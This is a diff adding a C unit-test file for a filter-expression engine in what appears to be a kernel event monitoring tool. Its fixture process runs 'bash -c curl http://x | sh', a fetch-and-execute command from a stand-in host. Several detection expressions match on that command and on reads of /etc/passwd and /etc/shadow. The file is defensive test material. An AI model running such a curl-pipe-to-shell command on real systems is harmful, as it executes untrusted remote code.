@@ -1,0 +1,446 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "expr/expr.h"
+
+#include <criterion/criterion.h>
+#include <errno.h>
+#include <netinet/in.h>
+#include <stdio.h>
+
+#include "expr.h"
+#include "expr/kernel_model.h"
+#include "identity/process.h"
+
+#define ARGV "bash\0-c\0curl http://x | sh"
+
+static const struct process parent = { .exe = "/usr/sbin/sshd", .cwd = "/", .args = "sshd\0-D", .args_len = 8, .args_known = true };
+static const struct process process = {
+	.exe = "/usr/bin/bash", .cwd = "/root", .args = ARGV, .args_len = sizeof(ARGV), .args_known = true,
+};
+
+typedef void make(struct record *r);
+
+/* connect(4, 10.1.2.3:443) = -EINPROGRESS from 192.168.0.9:40000 */
+static void make_connect(struct record *r)
+{
+	struct fact_sock sock = {
+		.family = AF_INET, .type = 1, .proto = 6, .state = 2,
+		.src = { .family = AF_INET, .port = 40000, .addr = { 192, 168, 0, 9 } },
+		.dst = { .family = AF_INET, .port = 443, .addr = { 10, 1, 2, 3 } },
+	};
+	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(443), .sin_addr = { htonl(0x0a010203) } };
+
+	record_begin(r, EVENT_call_connect);
+	r->call.args[0] = 4;
+	*record_span(r, 1) = record_bytes(r, &addr, sizeof(addr));
+	r->call.args[2] = sizeof(addr);
+	r->call.ret = -EINPROGRESS;
+	record_sock(r, 0, 4, 0, &sock);
+}
+
+/* A UDP socket does not know whom sendto names. */
+static void make_sendto(struct record *r)
+{
+	struct fact_sock sock = {
+		.family = AF_INET6, .type = 2, .proto = 17,
+		.src = { .family = AF_INET6, .port = 50000 }, .dst = { .family = AF_INET6 },
+	};
+	struct sockaddr_in6 addr = { .sin6_family = AF_INET6, .sin6_port = htons(53) };
+
+	addr.sin6_addr.s6_addr[0] = 0xfd;
+	record_begin(r, EVENT_call_sendto);
+	*record_span(r, 4) = record_bytes(r, &addr, sizeof(addr));
+	record_sock(r, 0, 4, 0, &sock);
+}
+
+static void make_sock(struct record *r)
+{
+	record_begin(r, EVENT_sock_state);
+	r->sock_state.old = 2;
+	r->sock_state.new = 1;
+	r->sock_state.src = (struct wire_addr){ .family = AF_INET6, .port = 22, .addr = { [10] = 0xff, 0xff, 10, 0, 0, 1 } };
+	r->sock_state.dst = (struct wire_addr){ .family = AF_INET6, .port = 51234, .addr = { 0xfe, 0x80, [15] = 7 } };
+	r->sock_state.family = AF_INET6;
+	r->sock_state.proto = IPPROTO_TCP;
+}
+
+static void make_file(struct record *r)
+{
+	record_begin(r, EVENT_file_open);
+	r->file_open.path = record_str(r, "/var/log/auth.log");
+	r->file_open.flags = 02001;
+	r->file_open.mode = S_IFREG | 0640;
+	r->file_open.dev = 0x803;
+	r->file_open.inode = 99;
+	r->file_open.created = 1;
+}
+
+static void make_exec(struct record *r)
+{
+	record_exec(r, "/usr/bin/bash", ARGV, sizeof(ARGV));
+	r->process_exec.argv_size = 5000;
+}
+
+static void make_exit(struct record *r)
+{
+	record_begin(r, EVENT_process_exit);
+	r->process_exit.signal = 9;
+	r->process_exit.lifetime = 6000000000;
+}
+
+/* A 32-bit caller: the low half counts. */
+static void make_read32(struct record *r)
+{
+	record_begin(r, EVENT_call_read);
+	r->head.abi = ABI_32;
+	r->call.args[0] = 0xffffffff00000003;
+	r->call.args[2] = 0x100000010;
+	r->call.ret = -EINTR;
+}
+
+static void make_failed(struct record *r)
+{
+	record_openat(r);
+	r->call.ret = -ENOENT;
+	r->call.facts[0].len = 0;
+	*record_span(r, 1) = (struct span){ 0 };
+	r->head.faulted = 2;
+}
+
+static void make_mount(struct record *r)
+{
+	record_begin(r, EVENT_call_openat2);
+	*record_span(r, 1) = record_str(r, "relative/file.txt");
+	*record_span(r, 2) = record_bytes(r, &(uint64_t[3]){ 2 }, 24);
+	r->call.ret = -EPERM;
+}
+
+static const struct { make *make; bool want; const char *text; } rows[] = {
+	/* The event itself. */
+	{ record_openat, true, "evt.type = openat" },
+	{ record_openat, true, "evt.type=openat" },
+	{ record_openat, true, "evt.type == 'openat'" },
+	{ record_openat, false, "evt.type != openat" },
+	{ record_openat, true, "evt.type in (open, openat, openat2)" },
+	{ record_openat, true, "evt.type startswith open" },
+	{ record_openat, true, "evt.type glob \"open??\"" },
+	{ record_openat, true, "evt.type regex \"open(at)?\"" },
+	{ record_openat, false, "evt.type glob open" },
+	{ record_openat, true, "evt.category = fs" },
+	{ record_openat, true, "evt.category = fs_file_ops" },
+	{ record_openat, false, "evt.category in (net, proc)" },
+	{ make_exec, true, "evt.type = sched_process_exec" },
+	{ make_exec, true, "evt.type = process_exec" },
+	{ record_openat, true, "evt.cpu = 1 and evt.time > 100s and evt.time < 2m" },
+	/* and, or, not. */
+	{ record_openat, true, "proc.pid = 4242 and proc.ppid = 1" },
+	{ record_openat, false, "proc.pid = 4242 and proc.ppid = 2" },
+	{ record_openat, true, "proc.pid = 1 or proc.ppid = 1" },
+	{ record_openat, true, "not proc.pid = 1" },
+	{ record_openat, true, "not not proc.pid = 4242" },
+	{ record_openat, true, "not (proc.pid = 1 or proc.pid = 2)" },
+	{ record_openat, true, "proc.pid = 4242 or proc.pid = 1 and proc.pid = 2" },
+	{ record_openat, false, "(proc.pid = 4242 or proc.pid = 1) and proc.pid = 2" },
+	{ record_openat, false, "not (proc.pid = 4242 and not (proc.pid = 1 and proc.pid = 2))" },
+	{ record_openat, true, "  ( proc.pid\n=\n4242 )\t" },
+	/* Numbers. */
+	{ record_openat, true, "proc.pid in (1, 4242, 7)" },
+	{ record_openat, false, "proc.pid in (1, 7)" },
+	{ record_openat, true, "proc.pid >= 4242 and proc.pid <= 4242 and proc.pid > 4241 and proc.pid < 4243" },
+	{ record_openat, true, "proc.pid = 0x1092" },
+	{ record_openat, true, "proc.pid = 010222" },
+	{ record_openat, true, "proc.pid exists" },
+	{ record_openat, true, "user.uid = 1000 and user.euid = 0 and user.session = -1" },
+	{ record_openat, true, "proc.cgroup = 5150 and proc.mnt_ns = 4026531841" },
+	{ record_openat, true, "thread.tid = 4242 and user.loginuid = 1000 and group.gid = 1000" },
+	{ record_openat, true, "proc.start > 1m and proc.start < 2m" },
+	{ make_exit, true, "args.lifetime > 5s and args.lifetime < 6001ms" },
+	{ make_exit, true, "args.signal = SIGKILL" },
+	{ make_exit, true, "args.signal in (KILL, TERM)" },
+	{ make_exit, false, "args.signal = SIGTERM" },
+	{ make_exec, true, "args.argv_size > 4K and args.argv_size < 5K" },
+	{ make_exec, true, "args.dev = 8:3 and args.inode = 4711" },
+	{ make_exec, true, "args.memfd = false and args.setuid != true" },
+	{ make_exec, true, "args.cap_effective intersects (CAP_SYS_ADMIN, CAP_NET_RAW)" },
+	{ make_exec, false, "args.cap_effective intersects (CAP_NET_RAW)" },
+	{ make_read32, true, "args.fd = 3 and args.count = 16" },
+	{ make_read32, true, "args.count < 17 and not args.count > 16" },
+	{ make_read32, true, "errno = EINTR" },
+	/* Results. */
+	{ record_openat, true, "ret = 3 and ret >= 0 and evt.res = SUCCESS" },
+	{ record_openat, false, "evt.res != SUCCESS" },
+	{ record_openat, false, "errno exists" },
+	{ record_openat, false, "errno != ENOENT" },
+	{ record_openat, true, "not errno = ENOENT" },
+	{ record_openat, true, "evt.failed = false" },
+	{ make_failed, true, "ret = ENOENT and ret < 0 and evt.rawres = -2" },
+	{ make_failed, true, "errno = ENOENT and errno exists and errno in (EPERM, ENOENT)" },
+	{ make_failed, true, "errno != EPERM" },
+	{ make_failed, true, "evt.failed = true" },
+	{ make_connect, true, "evt.res = EINPROGRESS" },
+	{ make_exit, false, "ret = 0 or evt.failed = false" },
+	/* Flags. */
+	{ record_openat, true, "args.flags contains O_CLOEXEC" },
+	{ record_openat, true, "args.flags intersects (O_WRONLY, O_CLOEXEC)" },
+	{ record_openat, false, "args.flags intersects (O_WRONLY, O_RDWR)" },
+	{ record_openat, true, "args.flags intersects (O_RDONLY)" },
+	{ record_openat, true, "args.flags = O_CLOEXEC" },
+	{ record_openat, true, "args.flags = 'O_RDONLY|O_CLOEXEC'" },
+	{ record_openat, false, "args.flags = O_RDONLY" },
+	{ record_openat, true, "evt.is_open_read = true and evt.is_open_write = false" },
+	{ make_file, true, "evt.is_open_write = true and args.flags contains O_APPEND" },
+	{ make_mount, true, "evt.is_open_write = true and evt.is_open_read = true" },
+	{ record_openat, true, "args.dirfd = AT_FDCWD and evt.arg.dirfd < 0" },
+	/* Texts. */
+	{ record_openat, true, "proc.name = cat" },
+	{ record_openat, false, "proc.name = ca" },
+	{ record_openat, true, "proc.name != ca" },
+	{ record_openat, true, "args.path = /etc/passwd" },
+	{ record_openat, true, "evt.arg.path startswith /etc and evt.args.path endswith wd" },
+	{ record_openat, true, "evt.rawarg.path contains c/pas" },
+	{ record_openat, true, "args.path icontains C/PaS" },
+	{ record_openat, false, "args.path contains C/PaS" },
+	{ record_openat, true, "args.path glob /etc/*" },
+	{ record_openat, false, "args.path glob /etc/?" },
+	{ record_openat, true, "args.path iglob \"/ETC/[p-q]ASS*\"" },
+	{ record_openat, true, "args.path regex '/etc/(passwd|shadow)'" },
+	{ record_openat, false, "args.path regex 'passwd'" },
+	{ record_openat, true, "args.path regex '.*passwd'" },
+	{ record_openat, true, "args.path in (/etc/shadow, '/etc/passwd')" },
+	{ record_openat, true, "args.path pmatch (/var, /etc)" },
+	{ record_openat, true, "args.path pmatch (/etc/)" },
+	{ record_openat, true, "args.path pmatch (/e*)" },
+	{ record_openat, true, "args.path pmatch (/)" },
+	{ record_openat, true, "args.path pmatch (/etc/passwd)" },
+	{ record_openat, false, "args.path pmatch (/et, /etc/passw)" },
+	{ record_openat, true, "args.path = \"/etc\\x2fpasswd\"" },
+	{ record_openat, false, "args.path = '/etc/passwd '" },
+	{ record_openat, true, "args.path exists" },
+	{ make_failed, false, "args.path exists" },
+	{ make_failed, false, "args.path != /etc/passwd" },
+	{ make_failed, true, "not args.path = /etc/passwd" },
+	{ make_failed, false, "args.path = ''" },
+	{ make_mount, false, "args.path pmatch (/)" },
+	{ make_mount, true, "args.path pmatch (relative)" },
+	/* Lists of texts. */
+	{ make_exec, true, "args.argv = -c" },
+	{ make_exec, false, "args.argv = c" },
+	{ make_exec, true, "args.argv contains 'bash -c'" },
+	{ make_exec, true, "args.argv contains 'curl http'" },
+	{ make_exec, true, "args.argv icontains CURL" },
+	{ make_exec, true, "args.argv intersects (-x, -c)" },
+	{ make_exec, false, "args.argv intersects (-x, -y)" },
+	{ make_exec, false, "args.argv in (bash, -c)" },
+	{ make_exec, true, "args.argv in (bash, -c, 'curl http://x | sh')" },
+	{ make_exec, true, "args.argv startswith curl and args.argv endswith sh" },
+	{ make_exec, true, "args.argv != -x" },
+	{ make_exec, false, "args.argv != -c" },
+	{ make_exec, true, "args.argv exists" },
+	{ make_exec, false, "args.envp exists" },
+	/* The process table. */
+	{ record_openat, true, "proc.exe = /usr/bin/bash and proc.exepath endswith bash" },
+	{ record_openat, true, "proc.cmdline = 'bash -c curl http://x | sh'" },
+	{ record_openat, true, "proc.cmdline contains '-c curl'" },
+	{ record_openat, true, "proc.args intersects (-c) and proc.args contains '-c curl'" },
+	{ record_openat, true, "proc.cwd = /root" },
+	{ record_openat, true, "proc.pname = sshd and proc.pexe = /usr/sbin/sshd and proc.pcmdline = 'sshd -D'" },
+	/* Descriptors. */
+	{ record_openat, true, "fd.name = /etc/passwd and fd.num = 3 and fd.type = file and fd.typechar = f" },
+	{ record_openat, true, "fd.filename = passwd and fd.directory = /etc" },
+	{ record_openat, true, "fd.dev = 8:3 and fd.ino = 1234" },
+	{ record_openat, false, "fd.rip exists or fd.port exists or fd.l4proto exists" },
+	{ make_failed, false, "fd.name exists or fd.num >= 0 or fd.ino = 0" },
+	{ make_connect, true, "fd.type = ipv4 and fd.typechar = 4 and fd.l4proto = tcp and fd.sockfamily = ip" },
+	{ make_connect, true, "fd.rip = 10.1.2.3 and fd.rport = 443 and fd.lip = 192.168.0.9 and fd.lport = 40000" },
+	{ make_connect, true, "fd.sip = 10.1.2.3 and fd.sport = 443 and fd.cip = 192.168.0.9 and fd.cport = 40000" },
+	{ make_connect, true, "fd.net in (10.0.0.0/8)" },
+	{ make_connect, true, "fd.net = 192.168.0.0/16 and fd.ip = 10.1.2.3" },
+	{ make_connect, false, "fd.ip != 10.1.2.3" },
+	{ make_connect, true, "fd.ip != 10.1.2.4 and fd.rip != 10.1.2.4" },
+	{ make_connect, true, "fd.snet in (private) and fd.port in (443, 8443) and fd.dport < 1024" },
+	{ make_connect, false, "fd.rip in (10.1.2.0/31, 172.16.0.0/12)" },
+	{ make_connect, true, "args.addr = 10.1.2.3" },
+	{ make_connect, true, "fd.name = '192.168.0.9:40000->10.1.2.3:443'" },
+	{ make_sendto, true, "fd.rip = fd00::/8 and fd.rport = 53 and fd.l4proto = udp and fd.sport = 53" },
+	/* The same names for events that are no system calls. */
+	{ make_file, true, "fd.name startswith /var/log and fd.filename = auth.log and fd.directory = /var/log" },
+	{ make_file, true, "fd.type = file and fd.typechar = 'f' and fd.dev = 8:3 and fd.ino = 99" },
+	{ make_file, true, "args.mode intersects (S_IFREG) and args.created = true" },
+	{ make_sock, true, "fd.lip = 10.0.0.1 and args.src in (10.0.0.0/8) and fd.lport = 22 and fd.sport = 22" },
+	{ make_sock, true, "fd.rip in (fe80::/10) and fd.cport > 1024 and fd.l4proto = tcp and fd.type = ipv6" },
+	{ make_sock, true, "args.old = TCP_SYN_SENT and args.new = TCP_ESTABLISHED" },
+	{ make_sock, true, "args.dst != 10.0.0.1 and not args.dst = 10.0.0.1" },
+	{ make_sock, false, "args.src != 10.0.0.1" },
+	/* Names. */
+	{ record_openat, true, "opening" },
+	{ record_openat, true, "opening and not container" },
+	{ record_openat, false, "writing or spawned" },
+	{ record_openat, true, "not writing and not proc.name in (shells)" },
+	{ record_openat, true, "proc.name in (programs)" },
+	{ record_openat, true, "proc.name in programs" },
+	{ record_openat, true, "proc.name in (shells, dog, cat)" },
+	{ record_openat, false, "proc.name in (nobody)" },
+	{ record_openat, false, "proc.name in ('programs')" },
+	{ record_openat, true, "container.id = host" },
+	/* Another event's field. */
+	{ record_openat, false, "args.argv exists" },
+	{ record_openat, true, "not args.lifetime > 0" },
+};
+
+static bool matches(const struct expr *expr, const struct record *r)
+{
+	struct expr_view view = { r, &process, &parent, NULL };
+
+	return expr_match(expr, &view);
+}
+
+/* Also: what matches passes the kernel's filter, and its event is possible. */
+static void expect_filter(const struct expr *expr, const struct record *r, const char *text)
+{
+	static struct filter_text texts[FILTER_TEXTS];
+	static struct filter_member members[FILTER_SETS];
+	struct push_down shared = { texts, members, FILTER_TEXTS, FILTER_SETS, 0, 0, 0 };
+	struct event_filter filter;
+
+	expr_push_down(expr, r->head.id, &shared, &filter);
+	cr_expect(model_match(&filter, &shared, r), "filtered: %s", text);
+	cr_expect(expr_event_possible(expr, r->head.id), "impossible: %s", text);
+}
+
+Test(expr, matches)
+{
+	static struct record r;
+
+	for (size_t i = 0; i < LEN_OF(rows); i++) {
+		struct arena arena;
+		struct diag diag;
+		struct expr *expr;
+		int ret = test_compile(&expr, &arena, rows[i].text, NULL, &diag);
+
+		cr_expect_eq(ret, 0, "%s: %s", rows[i].text, diag.text);
+		if (!ret) {
+			rows[i].make(&r);
+			cr_expect(event_valid(&r, r.head.size));
+			cr_expect_eq(matches(expr, &r), rows[i].want, "%s", rows[i].text);
+			if (rows[i].want)
+				expect_filter(expr, &r, rows[i].text);
+		}
+		arena_fini(&arena);
+	}
+}
+
+Test(expr, knows_its_events)
+{
+	struct arena arena;
+	struct diag diag;
+	struct expr *expr;
+
+	cr_assert_eq(test_compile(&expr, &arena, "evt.type = openat and args.path exists or args.lifetime > 5s",
+				  "openat,open,process_exit,read", &diag), 0);
+	cr_expect(expr_event_possible(expr, EVENT_call_openat));
+	cr_expect(expr_event_possible(expr, EVENT_process_exit));
+	cr_expect_not(expr_event_possible(expr, EVENT_call_open));
+	cr_expect_not(expr_event_possible(expr, EVENT_call_read));
+	cr_expect_not(expr_event_possible(expr, EVENT_process_exec));
+	cr_expect_not(expr_event_possible(expr, 100000));
+	arena_fini(&arena);
+}
+
+Test(expr, asks_the_caller_for_the_container)
+{
+	struct expr_extra extra = { { "0123456789ab" } }, unknown = { { NULL } };
+	static struct record r;
+	struct arena arena;
+	struct diag diag;
+	struct expr *expr;
+
+	record_openat(&r);
+	cr_assert_eq(test_compile(&expr, &arena, "container", NULL, &diag), 0);
+	cr_expect(expr_match(expr, &(struct expr_view){ .record = &r, .extra = &extra }));
+	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r, .extra = &unknown }));
+	cr_expect_not(expr_match(expr, &(struct expr_view){ .record = &r }));
+	arena_fini(&arena);
+}
+
+Test(expr, gives_up_without_memory)
+{
+	static const struct expr_source where = { "test", 1, 1, 1 };
+	static const char text[] = "proc.name in (a, b, c) and args.path regex 'a*' or fd.name pmatch (/etc)";
+	struct event_set all;
+	bool done = false;
+
+	test_events(&all, NULL);
+	for (size_t limit = 0; !done && limit < 1 << 20; limit += 1000) {
+		struct diag diag = { 0 };
+		struct arena arena;
+		struct expr *expr;
+		int ret;
+
+		arena_init(&arena, limit);
+		ret = expr_compile(&expr, &arena, text, &where, NULL, &all, &diag);
+		cr_expect(ret == 0 || ret == -ENOMEM, "%zu: %d %s", limit, ret, diag.text);
+		done = ret == 0;
+		arena_fini(&arena);
+	}
+	cr_expect(done);
+}
+
+static const struct { const char *event, *text, *want; } explained[] = {
+	{ "openat", "proc.name = cat", "kernel: proc.name = \"cat\"\n" },
+	{ "openat", "args.path startswith /etc and proc.exe != /bin/ls",
+	  "kernel: args.path startswith \"/etc\"\nuser space: proc.exe != /bin/ls\n" },
+	{ "openat", "user.uid = 0 and ret < 0", "kernel: user.uid = 0 and ret < 0\n" },
+	{ "openat", "evt.type = openat", "kernel: everything\n" },
+	{ "openat", "evt.type = open", "kernel: nothing, it is never true\n" },
+	{ "openat", "errno = ENOENT or errno = EPERM", "kernel: ret = -2 or ret = -1\n" },
+	{ "openat", "args.path glob '/etc/*.conf'",
+	  "kernel: args.path startswith \"/etc/\" and args.path endswith \".conf\"\nuser space: args.path glob '/etc/*.conf'\n" },
+	{ "openat", "not (proc.pid in (1, 2, 3) or args.flags contains O_CREAT)",
+	  "kernel: not args.flags has any bit of 0x40 and not proc.pid in (1, 2, 3)\n" },
+	{ "openat", "proc.exe = /bin/ls or proc.pid = 1",
+	  "kernel: everything\nuser space: proc.exe = /bin/ls or proc.pid = 1\n" },
+	{ "sock_state", "fd.rip in (10.0.0.0/8, fe80::/10)", "kernel: args.dst in 10.0.0.0/8 or args.dst in fe80::/10\n" },
+	{ "sock_state", "fd.lport = 22", "kernel: args.src (family and port) in (1441794, 1441802)\n" },
+};
+
+Test(expr, explains)
+{
+	for (size_t i = 0; i < LEN_OF(explained); i++) {
+		char buf[2048] = "";
+		FILE *to = fmemopen(buf, sizeof(buf), "w");
+		struct event_set set = { 0 };
+		struct arena arena;
+		struct diag diag;
+		struct expr *expr;
+
+		test_events(&set, explained[i].event);
+		cr_assert_eq(test_compile(&expr, &arena, explained[i].text, NULL, &diag), 0, "%s", diag.text);
+		for (unsigned id = 0; id < EVENT_COUNT; id++)
+			if (event_set_has(&set, id))
+				expr_explain(expr, id, to);
+		fclose(to);
+		cr_expect_str_eq(buf, explained[i].want, "%s: %s", explained[i].text, buf);
+		arena_fini(&arena);
+	}
+}
+
+static void count_field(void *ctx, const struct expr_field *field)
+{
+	struct arena arena;
+	struct diag diag;
+	struct expr *expr;
+	char text[128];
+
+	++*(unsigned *)ctx;
+	snprintf(text, sizeof(text), "%s %s", field->name, "exists");
+	cr_expect_eq(test_compile(&expr, &arena, text, NULL, &diag), 0, "%s: %s", text, diag.text);
+	cr_expect(field->doc && *field->doc && field->type);
+	arena_fini(&arena);
+}
+
+Test(expr, lists_its_fields)
+{
+	unsigned n = 0;
+
+	expr_fields(count_field, &n);
+	cr_expect(n > 70, "only %u", n);
+}
